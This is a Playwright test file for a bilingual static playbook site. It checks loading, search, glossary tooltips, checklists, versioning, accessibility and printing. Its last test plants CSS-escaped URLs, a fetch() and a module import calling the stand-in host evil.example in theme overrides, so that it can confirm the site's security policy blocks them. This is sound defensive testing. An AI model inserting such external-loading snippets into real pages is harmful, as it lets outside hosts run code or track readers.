"""The example site in a real browser (Debian's Chromium driven by Playwright), served on localhost."""
from __future__ import annotations

import contextlib
import functools
import importlib.util
import http.server
import os
import threading
from datetime import date
from pathlib import Path

import pytest

from .conftest import CHROMIUM

if not Path(CHROMIUM).exists():
    if os.environ.get("CI"):
        raise RuntimeError(f"{CHROMIUM} is missing: .ci/run must install Debian's chromium")
    pytest.skip("Debian's chromium is not installed", allow_module_level=True)

sync_api = pytest.importorskip("playwright.sync_api")

# the engines the example site is built with; Zensical is an optional dependency, which the test extra installs.
# Zensical's tests are a unit of work of their own under pytest -n (tests/scheduling.py): they run beside MkDocs'.
ENGINES = ["mkdocs", pytest.param("zensical", marks=[pytest.mark.skipif(
    importlib.util.find_spec("zensical") is None and not os.environ.get("CI"), reason="zensical is not installed"),
    pytest.mark.xdist_group("browser-zensical")])]


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *args):
        pass


@contextlib.contextmanager
def _served_page(browser, site: Path):
    """A built site served on localhost and a fresh page of a new browser context: (its address, the page)."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(_Quiet, directory=str(site)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    context = browser.new_context()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/", context.new_page()
    finally:
        context.close()
        server.shutdown()


# A search result: Material's (a page, with its sections found under it), or Zensical's (one section each, in its
# search dialog, which Playwright's selectors reach inside its shadow root).
RESULT = ".md-search-result__list > .md-search-result__item, ol[role=listbox] > li"


def search(page, address: str, query: str) -> None:
    """Open a page, click the search field and type, as a reader does; waits for the results."""
    page.goto(address, wait_until="networkidle")
    if page.locator("input.md-search__input").count():  # Material: the field is in the header
        page.locator("input.md-search__input").click()
    else:  # Zensical: a button in the header opens the search dialog, its field focused
        page.locator(".md-search__button").click()
        page.locator("dialog input[role=combobox]").wait_for()
    page.keyboard.type(query, delay=20)
    page.wait_for_selector(RESULT, timeout=30000)


@pytest.fixture(scope="module", params=ENGINES)
def served(request):
    """The whole example site, both languages, built by each engine in turn, served on localhost: (address,
    folder). Every test that takes it runs once per engine, with the same assertions. Each engine's build is the
    one the whole run shares (conftest.py), which these tests only read through the server."""
    from .conftest import read_only
    built = request.getfixturevalue("_example_built" if request.param == "mkdocs" else "_example_zensical_built")
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(_Quiet, directory=str(built.site)))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    with read_only(built.root, request):
        yield f"http://127.0.0.1:{server.server_address[1]}/", built.site
    server.shutdown()


@pytest.fixture
def engine(request, served) -> str:
    """The engine that built the site `served` holds."""
    return request.node.callspec.params["served"]


# Zensical's axe scan reads these pages, one of each kind, where MkDocs' reads every page: the scan of every page
# takes two minutes a site, which the suite's time cannot give twice (see README, "Tests")
SAMPLE = ("latest/index.html", "latest/networks/instagram.html", "latest/onboarding.html", "latest/glossary.html",
          "latest/crisis.html", "1.0/index.html", "draft/readiness.html", "en/draft/networks/x.html")


@pytest.fixture(scope="module")
def base_url(served):
    """The French site, the example's main language, at the root; the English one is in en/."""
    return served


def readable_pages(site: Path) -> list[str]:
    """Every page people read; the entry pages of the site and of each language only redirect."""
    return sorted(p.relative_to(site).as_posix() for p in site.rglob("*.html")
                  if p.name != "404.html" and p.parent not in (site, site / "en"))


def distinct_pages(site: Path) -> list[str]:
    """readable_pages but the copies: a page of latest/ holds the bytes of the same page of the release in force
    (hard links), so it looks and reads the same."""
    def copied(path: str) -> bool:
        before, _, rest = path.partition("latest/")
        if not rest or "/" in before.rstrip("/"):
            return False
        kept = (site / path).read_bytes()
        return any(folder.name != "latest" and (folder / rest).is_file() and (folder / rest).read_bytes() == kept
                   for folder in (site / before).iterdir() if folder.is_dir())
    return [path for path in readable_pages(site) if not copied(path)]


@pytest.fixture
def page(browser):
    context = browser.new_context(viewport={"width": 1280, "height": 900}, locale="fr-FR")  # a French reader
    page = context.new_page()
    yield page
    context.close()


def test_every_page_loads_cleanly_and_stays_local(served, page):
    url, site = served
    requests, failures, errors = [], [], []
    page.on("request", lambda r: requests.append(r.url))
    # moving to the next page cancels what the previous one was still loading: not a failure
    page.on("requestfailed", lambda r: None if r.failure == "net::ERR_ABORTED" else failures.append((r.url, r.failure)))
    page.on("response", lambda r: failures.append((r.url, r.status)) if r.status >= 400 else None)
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda e: errors.append(str(e)))
    pages = readable_pages(site)
    assert len(pages) >= 110  # every page of 1.0, 2.0, latest and the draft in French, and the English draft
    for path in pages:
        response = page.goto(url + path)
        assert response is not None and response.ok, path
    outside = [r for r in requests if not r.startswith(url) and not r.startswith("data:")]
    assert not outside, outside
    assert not failures and not errors, (failures, errors)


def test_offline_search_finds_a_lexicon_term_and_a_rule(base_url, page):
    url, _ = base_url
    for query in ("hashtag", "confidentialité"):
        search(page, url + "latest/index.html", query)
        assert page.locator(RESULT).count() >= 1, query


def test_offline_search_works_opened_from_the_folder(base_url, page):
    _, site = base_url
    search(page, (site / "latest" / "index.html").as_uri(), "confidentialité")  # file://, no server
    assert page.locator(RESULT).count() >= 1


def test_lexicon_tooltip_names_the_term_readably_and_leads_to_its_entry(base_url, page):
    url, _ = base_url
    page.goto(url + "latest/networks/x.html")
    term = page.locator("article a.pb-term").first
    name, definition = (term.get_attribute("title") or "").split("\n", 1)
    term.scroll_into_view_if_needed()
    assert term.evaluate("e => getComputedStyle(e).borderBottomStyle") == "dotted"  # a term, not one more link
    term.hover()
    tooltip = page.locator(".md-tooltip2--active .md-tooltip2__inner")
    tooltip.wait_for(timeout=5000)
    shown = tooltip.inner_text()
    assert shown.startswith(name + "\n") and definition[:40] in shown  # the name on a line of its own
    style = tooltip.evaluate("e => [getComputedStyle(e).fontSize, getComputedStyle(e).fontWeight]")
    assert float(style[0].rstrip("px")) >= 13 and int(style[1]) < 700, style
    # keyboard: the mark is reachable and opens the glossary at the term's entry
    term.focus()
    page.keyboard.press("Enter")
    page.wait_for_url("**/glossary.html#term-*")
    assert page.locator(f"h3[id='{page.url.split('#')[1]}']").inner_text().startswith(name)


@pytest.mark.parametrize("prefix, query, anchor", [("latest/", "story à la une", "term-story-a-la-une"),
                                                    ("en/draft/", "community manager", "term-community-manager")])
def test_searching_a_term_finds_its_glossary_entry_first(base_url, page, prefix, query, anchor):
    url, _ = base_url
    search(page, url + prefix + "index.html", query)
    page.wait_for_timeout(500)  # the results of the last keystroke
    first = page.locator(RESULT).first
    links = first.locator("a").all()
    # Material's first result is the glossary page, its first link, with the entry found as its second link;
    # Zensical's is the entry itself, the glossary page at its anchor
    entry = links[1] if len(links) > 1 else links[0]
    hrefs = [a.get_attribute("href") for a in links]
    assert "glossary.html" in hrefs[0] and anchor in entry.get_attribute("href"), hrefs[:3]
    assert len(entry.inner_text()) < 600, entry.inner_text()  # one short entry, not the whole glossary


def test_checklist_boxes_can_be_ticked(base_url, page):
    url, _ = base_url
    page.goto(url + "latest/networks/linkedin.html")
    box = page.locator("article input[type=checkbox]").first
    assert not box.is_disabled() and not box.is_checked()
    # The box a person sees is drawn before the item's text: click there.
    first_item = page.locator("article li.task-list-item").first
    first_item.scroll_into_view_if_needed()
    item = first_item.bounding_box()
    page.mouse.click(item["x"] - 14, item["y"] + 12)
    assert box.is_checked()
    # and from the keyboard
    box.focus()
    page.keyboard.press("Space")
    assert not box.is_checked()


def test_version_selector_lands_on_the_same_page(base_url, page):
    url, _ = base_url
    page.goto(url + "index.html")
    page.wait_for_url("**/latest/index.html")
    page.goto(url + "latest/networks/x.html")
    page.locator(".md-version__current").focus()  # opens the list, as a hover does
    page.locator(".md-version__link", has_text="1.0").click()
    page.wait_for_url("**/1.0/networks/x.html")
    banner = page.locator(".md-banner")
    assert "n'est plus en vigueur" in banner.inner_text()
    banner.get_by_role("link").click()
    page.wait_for_url("**/latest/networks/x.html")
    assert "en vigueur" in page.locator(".md-banner").inner_text()
    page.goto(url + "draft/networks/x.html")
    assert "Brouillon — non approuvé" in page.locator(".md-banner").inner_text()
    assert page.locator(".md-version__current").inner_text().startswith("Brouillon")


@pytest.mark.parametrize("locale", ["en-GB", "fr-FR", "de-DE"])
def test_entry_page_opens_the_release_in_force(served, browser, locale):
    url, _ = served
    context = browser.new_context(locale=locale)
    page = context.new_page()
    page.goto(url)
    # English has no release in force yet: every reader enters on the French one, approved
    page.wait_for_url("**/latest/index.html")
    assert page.locator("html").get_attribute("lang") == "fr"
    context.close()


def test_language_switcher_opens_the_same_page_in_the_other_language(served, page):
    url, _ = served
    page.goto(url + "draft/networks/x.html")
    page.locator(".md-header__option .md-select").hover()
    page.locator(".md-select__link[hreflang=en]").click()
    page.wait_for_url("**/en/draft/networks/x.html")
    assert page.title().startswith("X (formerly Twitter) - ")
    assert "Why we are there" in page.locator("article").inner_text()
    page.locator(".md-header__option .md-select").hover()
    page.locator(".md-select__link[hreflang=fr]").click()
    page.wait_for_url(url + "draft/networks/x.html")
    assert page.title().startswith("X (anciennement Twitter) - ")


def test_hostile_text_never_runs_in_the_browser(browser, tmp_path):
    from generator.commands import build
    from generator.resources import scaffold_dir

    from .conftest import copy_playbook
    from .test_injection import inject
    root = copy_playbook(scaffold_dir("en"), tmp_path / "hostile")
    inject(root)
    dialogs, outside = [], []
    with _served_page(browser, build.run(root).output) as (url, page):
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.on("request", lambda r: outside.append(r.url) if not r.url.startswith(url) else None)
        for path in ("index.html", "personal_use.html", "networks/linkedin.html", "glossary.html",
                     "pages/hostile.html", "pages/breakout.html", "kpis.html"):
            page.goto(url + path)
            page.mouse.move(300, 300)
            page.mouse.move(600, 500)
        search(page, url + "index.html", "alert")
        page.wait_for_timeout(500)
    assert dialogs == [] and outside == []


def test_ticked_boxes_are_remembered_with_progress_and_reset(base_url, page):
    url, _ = base_url
    page.goto(url + "latest/onboarding.html")
    boxes = page.locator("article input[type=checkbox]")
    total = boxes.count()
    assert total >= 15
    counter = page.locator(".playbook-progress__count")
    assert counter.inner_text() == f"0 / {total}"
    for index in (0, 2, 4):  # steps of the first day: pages to read
        boxes.nth(index).focus()
        page.keyboard.press("Space")
    assert counter.inner_text() == f"3 / {total}"
    page.reload()
    assert [boxes.nth(i).is_checked() for i in range(6)] == [True, False, True, False, True, False]
    assert page.locator(".playbook-progress__count").inner_text() == f"3 / {total}"
    # the draft's path has the same first steps: a box is kept by its content, not by its version
    page.goto(url + "draft/onboarding.html")
    assert page.locator(".playbook-progress__count").inner_text().startswith("3 / ")
    page.goto(url + "latest/onboarding.html")
    page.locator(".playbook-reset").click()
    assert counter.inner_text() == f"0 / {total}"
    page.reload()
    assert not any(boxes.nth(i).is_checked() for i in range(total))


def _checklist_step(page, network: str):
    """The first box of the onboarding path that stands for one of a network's checklists, and its count."""
    item = page.locator(f"article li.task-list-item:has(a[href*='networks/{network}.html#checklist-'])").first
    return item.locator("input[type=checkbox]"), item.locator(".playbook-steps")


def test_onboarding_counts_the_checklist_boxes_ticked_on_a_network_page(base_url, page):
    url, _ = base_url
    page.goto(url + "latest/onboarding.html")
    step, count = _checklist_step(page, "linkedin")
    anchor = step.locator("xpath=ancestor::li").locator("a").get_attribute("href").split("#")[1]
    size = int(count.inner_text().strip("()").split(" / ")[1])
    assert size >= 2 and count.inner_text() == f"(0 / {size})" and not step.is_checked()
    page.goto(url + f"latest/networks/linkedin.html#{anchor}")
    boxes = page.locator(f"h3#{anchor} ~ ul").first.locator("input[type=checkbox]")
    assert boxes.count() == size
    boxes.nth(0).press('Space')
    boxes.nth(1).press('Space')
    page.goto(url + "latest/onboarding.html")
    step, count = _checklist_step(page, "linkedin")
    assert count.inner_text() == f"(2 / {size})"
    assert not step.is_checked() and step.evaluate("box => box.indeterminate")
    page.goto(url + f"latest/networks/linkedin.html#{anchor}")
    for index in range(2, size):
        boxes.nth(index).press('Space')
    page.go_back()  # back to the path, perhaps from the browser's cache of the page: it reads the boxes again
    page.wait_for_url("**/latest/onboarding.html")
    step, count = _checklist_step(page, "linkedin")
    assert step.is_checked() and count.inner_text() == f"({size} / {size})"
    step.press('Space')  # unticking the step unticks its checklist, on the network page too
    page.goto(url + f"latest/networks/linkedin.html#{anchor}")
    assert not any(boxes.nth(i).is_checked() for i in range(size))


def test_a_checklist_box_stays_ticked_in_the_next_release_unless_its_text_changed(browser, tmp_path):
    from generator.commands import build, release

    from .conftest import copy_playbook, edit
    from generator.resources import scaffold_dir
    root = copy_playbook(scaffold_dir("en"), tmp_path / "releases")
    release.run(root, "1.0", "Claire Martin", "Chief executive", date(2026, 1, 15))
    edit(root / "content" / "networks" / "linkedin.yml", "Names, figures and links have been checked",
         "Names, figures, dates and links have been checked")
    release.run(root, "2.0", "Claire Martin", "Chief executive", date(2026, 6, 1))
    with _served_page(browser, build.run(root).output) as (url, page):
        page.goto(url + "1.0/networks/linkedin.html")
        page.get_by_label("The post serves one of our objectives").press('Space')
        page.get_by_label("Names, figures and links have been checked").press('Space')
        page.goto(url + "2.0/networks/linkedin.html")
        assert page.get_by_label("The post serves one of our objectives").is_checked()
        assert not page.get_by_label("Names, figures, dates and links have been checked").is_checked()
        page.goto(url + "2.0/onboarding.html")
        step, count = _checklist_step(page, "linkedin")
        assert count.inner_text() == "(1 / 3)"
        page.goto(url + "1.0/networks/linkedin.html")  # the older release keeps what was ticked in it
        assert page.get_by_label("Names, figures and links have been checked").is_checked()


def test_keyboard_reaches_the_checklists(base_url, page):
    url, _ = base_url
    page.goto(url + "latest/networks/linkedin.html")
    for _ in range(300):
        page.keyboard.press("Tab")
        focused = page.evaluate("document.activeElement && document.activeElement.getAttribute('data-item')")
        if focused:
            break
    else:
        raise AssertionError("Tab never reaches a checklist box")
    label = page.evaluate("document.activeElement.getAttribute('aria-label')")
    assert label
    page.keyboard.press("Space")
    assert page.evaluate("document.activeElement.checked")


def test_no_serious_accessibility_violation_on_any_page(served, page, engine):
    from axe_playwright_python.sync_playwright import Axe
    url, site = served
    axe = Axe()
    problems = []
    # 404.html is the web server's error page: its links only work from the site's root
    # on MkDocs' site: every page of the drafts, in both languages (every template, on the newest content), and the
    # pages a release adds or words differently (its home and what changed); on Zensical's, a sample of each kind
    pages = [path for path in distinct_pages(site) if path.startswith(("draft/", "en/draft/")) or
             path.endswith(("/index.html", "/changes.html"))] if engine == "mkdocs" else SAMPLE
    assert set(pages) <= set(readable_pages(site))
    for path in pages:
        page.goto(url + path)
        for violation in axe.run(page).response["violations"]:
            if violation["impact"] in ("serious", "critical"):
                problems.append((path, violation["id"], violation["nodes"][0]["html"][:120]))
    assert problems == []


def test_screenshots_for_review(base_url, page, engine):
    """Screenshots of the pages people use most, kept by CI in artifacts/screenshots/ (Zensical's in zensical/)."""
    url, _ = base_url
    folder = Path(os.environ.get("PLAYBOOK_SCREENSHOTS", Path(__file__).resolve().parent.parent / "artifacts" /
                                 "screenshots"))
    folder = folder if engine == "mkdocs" else folder / engine
    folder.mkdir(parents=True, exist_ok=True)
    for name, path in (("home", "latest/index.html"), ("network", "latest/networks/instagram.html"),
                       ("onboarding", "latest/onboarding.html"), ("comments", "latest/comments.html"),
                       ("crisis", "latest/crisis.html"), ("outdated", "1.0/index.html"),
                       ("english-network", "en/draft/networks/instagram.html")):
        page.goto(url + path)
        page.screenshot(path=str(folder / f"{name}.png"), full_page=True)
        assert (folder / f"{name}.png").stat().st_size > 10_000


def test_printed_pages_carry_the_version_and_no_navigation(base_url, page, tmp_path):
    from pypdf import PdfReader
    url, _ = base_url
    page.goto(url + "latest/crisis.html", wait_until="networkidle")
    page.emulate_media(media="print")
    pdf = tmp_path / "crisis.pdf"
    page.pdf(path=str(pdf), format="A4")
    pages = [p.extract_text() for p in PdfReader(pdf).pages]
    assert len(pages) >= 3
    for number, text in enumerate(pages, start=1):
        assert "Version 2.0 en vigueur" in text, f"printed page {number} lacks the version"
        assert "Parcours d'intégration" not in text, f"printed page {number} shows the navigation"


def test_nothing_a_theme_holds_loads_from_outside(browser, tmp_path):
    """The overrides of a theme are the team's own HTML, scripts included; the page's security policy makes the
    browser refuse whatever they would load from outside, in forms a check of the built files could miss."""
    from generator.commands import build
    from generator.resources import scaffold_dir

    from .conftest import copy_playbook
    root = copy_playbook(scaffold_dir("en"), tmp_path / "themed")
    with (root / "site_config.yml").open("a", encoding="utf-8") as config:
        config.write("theme_dir: theme\n")
    overrides = root / "theme" / "overrides"
    (overrides / "assets").mkdir(parents=True)
    (overrides / "assets" / "x.css").write_text(
        "body{border-image:url(\\68ttps://evil.example/esc.png) 30}\n"
        "@font-face{font-family:z;src:url('\\68ttps://evil.example/f.woff')}\n.md-typeset{font-family:z}\n",
        encoding="utf-8")
    (overrides / "main.html").write_text(
        '{% extends "base.html" %}\n{% block extrahead %}{{ super() }}<link rel="stylesheet" href="{{ \'assets/x.css\' '
        '| url }}"><style>body{background-image:image-set("https://evil.example/i.png" 1x)}</style>'
        '<script>fetch("https://evil.example/fetch").catch(function(){})</script>'
        '<script type="module">import "https://evil.example/mod.js";</script>{% endblock %}\n', encoding="utf-8")
    outside = []
    with _served_page(browser, build.run(root).output) as (url, page):
        page.on("requestfailed", lambda r: outside.append((r.url, r.failure)) if not r.url.startswith(url) else None)
        page.on("requestfinished", lambda r: outside.append((r.url, "sent")) if not r.url.startswith(url) else None)
        page.goto(url + "index.html")
        page.wait_for_timeout(800)
    # each was refused by the browser itself (the page's security policy), before any network
    assert outside and all(failure == "csp" for _, failure in outside), outside
